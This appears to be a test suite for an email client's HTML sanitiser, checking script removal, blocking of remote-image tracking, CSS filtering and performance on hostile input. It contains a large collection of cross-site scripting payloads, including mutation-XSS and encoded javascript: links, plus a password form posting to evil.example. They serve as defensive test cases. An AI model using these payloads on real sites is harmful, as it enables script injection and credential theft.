import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { pick, seededRandom } from "#base/random";
import { attributes, elements } from "./elements.ts";
import { sanitiseHtml } from "./index.ts";
import { plainTextHtml } from "./plain.ts";
import { filterStyle } from "./style.ts";

const pixel = "data:image/png;base64,AAAA";
const clean = (html: string, remoteImages = false) =>
  sanitiseHtml(html, { remoteImages, inlineImage: (id) => (id === "known" ? pixel : undefined) });

/** A second, stricter reading of what may come out: only whole tags in exactly our own spelling. */
function assertHarmless(html: string, remoteAllowed = false): void {
  const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>`]*")*)>/g;
  const left = html.replace(tag, (_whole, _slash: string, name: string, fields: string) => {
    assert.ok(elements.has(name), `element ${name} in ${html}`);
    for (const [, key = "", value = ""] of fields.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      const known = ["href", "src", "target", "rel", "style", "referrerpolicy", "class"];
      assert.ok(attributes.has(key) || known.includes(key), `attribute ${key} in ${html}`);
      if (key === "href") assert.match(value, /^(?:https?:\/\/|mailto:)/, html);
      if (key === "src") assert.match(value, remoteAllowed ? /^(?:https?|data):/ : /^data:image\//);
      if (key === "class") assert.equal(value, "no-image");
      if (key === "style") assert.ok(!/url|@|\\|expression|position|z-index/i.test(value), html);
    }
    return "";
  });
  assert.ok(!/[<>]/.test(left), `stray bracket in ${html}`);
}

const scripts: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)</script foo>x",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'/>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img src=x OnErRoR=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img src="x` onerror=alert(1)//">',
  "<img src=`x`onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=javascript:alert(1)>",
  "<body onload=alert(1)>hello",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://mail.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="#x" id="x" name="location">x</a>',
  '<a href="view-source:https://x.example/">x</a>',
  '<a href=https://ok.example/"onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<iframe><script>alert(1)</script>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x",
  "<textarea autofocus onfocus=alert(1)>x",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<keygen autofocus onfocus=alert(1)>",
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'javascript:alert(1)';</style>",
  "<style><!--</style><script>alert(1)</script>--></style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(x.xml#x)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  "<!--><script>alert(1)</script>-->",
  "<!---><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>-->",
  "<!--<script>--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml <script>alert(1)</script>?>",
  "<!doctype html [<!ENTITY x '<script>'>]>",
  "</script><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<title><img src=x onerror=alert(1)></title>",
  "<title></title/><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<template><script>alert(1)</script></template>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<table background='javascript:alert(1)'><tr><td>x",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="a\0b" onclick=\0alert(1)>x</p>',
  "<a\u000bonclick=alert(1) href=https://ok.example/>x</a>",
  "<\u0000script>alert(1)</script>",
  "<scrıpt>alert(1)</scrıpt>",
  "＜script＞alert(1)＜/script＞",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<img src=x alt='<script>alert(1)</script>'>",
  "<img src=x alt='`onerror=alert(1)`'>",
  "<div",
  '<div title="',
  "<img src='x' onerror=alert(1)",
  "<a href='https://ok.example/' <script>alert(1)</script>",
];

describe("sanitiseHtml() writes nothing that runs (W15)", () => {
  test("the list is long enough", () => assert.ok(scripts.length >= 60));
  for (const [index, html] of scripts.entries()) {
    test(`${index} ${JSON.stringify(html.slice(0, 60))}`, () => {
      for (const remote of [false, true]) assertHarmless(clean(html, remote).html, remote);
      assertHarmless(clean(clean(html).html).html);
      assertHarmless(clean(`<table><tr><td>${html}</td></tr></table>`).html);
      assertHarmless(plainTextHtml(html).replace(/^<div class="plain">|<\/div>$/g, ""));
    });
  }
});

const at = "https://track.example/p.png";
/** Each would make a browser fetch; the second is how many the bar should count at least. */
const fetches: readonly (readonly [string, number])[] = [
  [`<img src="${at}">`, 1],
  [`<img src="//track.example/p.png">`, 1],
  ["<img src='\\\\track.example\\p.png'>", 1],
  [`<img src=" ${at}">`, 1],
  ["<img src='ht\ntps://track.example/p.png'>", 1],
  ["<img src='&#104;ttps://track.example/p.png'>", 1],
  [`<img src="HTTP://track.example/p.png">`, 1],
  [`<img srcset="${at} 2x">`, 0],
  [`<img lowsrc="${at}">`, 1],
  [`<img dynsrc="${at}">`, 1],
  [`<body background="${at}">x</body>`, 1],
  [`<table background="${at}"><tr><td>x</td></tr></table>`, 1],
  [`<td background="${at}">x</td>`, 1],
  [`<div style="background:url(${at})">x</div>`, 1],
  [`<div style="background-image:url('${at}')">x</div>`, 1],
  [`<div style="BACKGROUND:URL( ${at} )">x</div>`, 1],
  [`<div style="list-style-image:url(${at})">x</div>`, 1],
  [`<div style="cursor:url(${at}),auto">x</div>`, 1],
  [`<div style="content:url(${at})">x</div>`, 1],
  [`<div style="border-image:url(${at})">x</div>`, 1],
  [`<div style="filter:url(${at}#x)">x</div>`, 1],
  [`<div style="mask:url(${at})">x</div>`, 1],
  [`<div style="background:image-set('${at}' 1x)">x</div>`, 1],
  ["<div style='background:u\\72l(https://track.example/)'>x</div>", 0],
  [`<div style="background:/**/url(${at})">x</div>`, 1],
  [`<style>@import url(${at});</style>`, 0],
  [`<style>body{background:url(${at})}</style>`, 0],
  [`<style>@font-face{font-family:x;src:url(${at})}</style>`, 0],
  [`<link rel="stylesheet" href="${at}">`, 1],
  [`<link rel="prefetch" href="${at}">`, 1],
  [`<link rel="dns-prefetch" href="//track.example">`, 1],
  [`<meta http-equiv="refresh" content="0;url=${at}">`, 0],
  [`<iframe src="${at}"></iframe>`, 1],
  [`<object data="${at}"></object>`, 1],
  [`<embed src="${at}">`, 1],
  [`<video poster="${at}"></video>`, 1],
  [`<video src="${at}"></video>`, 1],
  [`<audio src="${at}"></audio>`, 1],
  [`<video><source src="${at}"></video>`, 0],
  [`<input type="image" src="${at}">`, 1],
  [`<svg><image href="${at}"/></svg>`, 0],
  [`<svg><use xlink:href="${at}"/></svg>`, 0],
  [`<svg><feImage href="${at}"/></svg>`, 0],
  [`<image href="${at}">`, 1],
  [`<script src="${at}"></script>`, 1],
  [`<base href="https://track.example/"><img src="p.png">`, 0],
  [`<frameset><frame src="${at}"></frameset>`, 0],
  [`<a ping="${at}" href="https://ok.example/">x</a>`, 1],
  [`<form action="${at}"><input></form>`, 1],
  [`<bgsound src="${at}">`, 1],
  [`<picture><source srcset="${at}"></picture>`, 0],
  [`<img src="cid:unknown">`, 0],
];

describe("sanitiseHtml() leaves nothing to fetch until the reader asks (W17)", () => {
  test("the list is long enough", () => assert.ok(fetches.length >= 30));
  for (const [index, [html, count]] of fetches.entries()) {
    test(`${index} ${html.slice(0, 60)}`, () => {
      const result = clean(html);
      assertHarmless(result.html);
      const withoutLinks = result.html.replace(/<a [^>]*>/g, "");
      assert.ok(!withoutLinks.includes("track.example"), result.html);
      assert.ok(!/<img (?!.*src="data:)/.test(result.html));
      assert.ok(result.remoteCount >= count, `counted ${result.remoteCount}`);
    });
  }

  test("shows them when asked, without a referrer", () => {
    const { html } = clean(`<img src="${at}" width=10>`, true);
    assert.equal(html, `<img width="10" src="${at}" referrerpolicy="no-referrer">`);
  });

  test("shows pictures of the message itself", () => {
    assert.match(clean('<img src="cid:known" alt="x">').html, /src="data:image\/png/);
    assert.equal(clean('<img src="data:image/svg+xml;base64,AAAA">').html, "");
  });
});

describe("sanitiseHtml() keeps what people write", () => {
  const kept: readonly (readonly [string, string])[] = [
    ["<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"],
    ["a &amp; b &lt; c &eacute; &#8364;", "a &amp; b &lt; c &eacute; &#8364;"],
    ["1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"],
    ["<p>one<br>two", "<p>one<br>two</p>"],
    ["<b><i>x</b></i>", "<b><i>x</i></b>"],
    [
      '<td style="COLOR: red; padding:4px" bgcolor=#fff>x</td>',
      '<td style="color:red;padding:4px" bgcolor="#fff">x</td>',
    ],
    [
      "<center><font color=red face='Arial'>x</font></center>",
      '<center><font color="red" face="Arial">x</font></center>',
    ],
    ["<html><head><title>t</title></head><body>x</body></html>", "x"],
    ["<o:p>x</o:p>", "x"],
  ];
  for (const [html, expected] of kept) test(html, () => assert.equal(clean(html).html, expected));

  test("links open elsewhere and tell nothing", () => {
    const { html } = clean('<a href="https://ok.example/a?b=1&amp;c=2">x</a>');
    assert.equal(
      html,
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  test("filterStyle() keeps looks and drops tricks (W16)", () => {
    const cases: readonly (readonly [string, string])[] = [
      ["color:#123456", "color:#123456"],
      ["font-family:'Segoe UI', Arial", "font-family:'Segoe UI', Arial"],
      ["position:fixed;top:0", ""],
      ["z-index:9999", ""],
      ["margin:-2000px", ""],
      ["color:var(--x)", ""],
      ["color:attr(title)", ""],
      ["width:calc(1px)", ""],
      ["color:r\\65 d", ""],
      ["display:block", "display:block"],
      ["display:grid", ""],
      ["opacity:0", ""],
      ["font-family:'x", ""],
      ["color:rgb(1,2,3)!important", "color:rgb(1,2,3)!important"],
      ["transform:translate(10px)", ""],
      ["animation:x 1s", ""],
      ["/*x*/color:red/*", "color:red"],
    ];
    for (const [given, expected] of cases) assert.equal(filterStyle(given).style, expected, given);
  });
});

describe("bad input costs little", () => {
  const big: readonly (readonly [string, string])[] = [
    ["open tags", "<div>".repeat(100_000)],
    ["end tags", "</div>".repeat(100_000)],
    ["open and wrong end", "<b></i>".repeat(60_000)],
    ["brackets", "<".repeat(500_000)],
    ["unended comment", "<!--".repeat(120_000)],
    ["dashes", `<!--${"--".repeat(200_000)}`],
    ["unended raw text", "<style></styl".repeat(40_000)],
    ["many titles", "<title>".repeat(60_000)],
    ["unended attribute", `<a ${"x='".repeat(100_000)}`],
    ["attributes", `<a ${"x=1 y ".repeat(100_000)}>`],
    ["references", "&".repeat(500_000)],
    ["long reference", `&${"a".repeat(500_000)}`],
    ["styles", `<p style="${"a:b;".repeat(100_000)}">`],
    ["style comments", `<p style="${"/*".repeat(1_000)}">`.repeat(100)],
    ["nested svg", "<svg>".repeat(100_000)],
    ["long link", `<a href="${"a:".repeat(200_000)}">`],
  ];
  for (const [name, html] of big) {
    test(`${name}: linear`, () => {
      const startedMs = performance.now();
      assertHarmless(clean(html).html);
      plainTextHtml(html);
      assert.ok(performance.now() - startedMs < 1500, `${performance.now() - startedMs} ms`);
    });
  }

  test("anything: no throw, nothing but our own spelling comes out", () => {
    const random = seededRandom(15);
    const bits = [
      ...["<", ">", "/", "=", '"', "'", "`", " ", "&", ";", "#", "!--", "-->", "--!>", "\0", "\n"],
      ...["script", "style", "svg", "math", "img", "a", "p", "table", "td", "title", "iframe"],
      ...[
        "src",
        "href",
        "onerror",
        "style",
        "javascript:",
        "https://x.example/",
        "url(",
        "cid:known",
      ],
      ...["&#x6a;", "&colon;", "data:image/png;base64,AA", "<![CDATA[", "]]>", "é", "alert(1)"],
    ];
    for (let run = 0; run < 30_000; run += 1) {
      let html = "";
      for (let left = pick(random, 24); left >= 0; left -= 1)
        html += bits[pick(random, bits.length)];
      assertHarmless(clean(html, run % 2 === 0).html, run % 2 === 0);
    }
  });
});

describe("plainTextHtml()", () => {
  test("links addresses, leaves the full stop behind them outside", () => {
    assert.match(
      plainTextHtml("see https://a.example/b."),
      /href="https:\/\/a\.example\/b".*<\/a>\./,
    );
  });
  test("indents quotes by depth", () => {
    assert.equal(
      plainTextHtml("> > a\n> b\nc"),
      '<div class="plain"><blockquote><blockquote>a\n</blockquote>b\n</blockquote>c\n</div>',
    );
  });
});
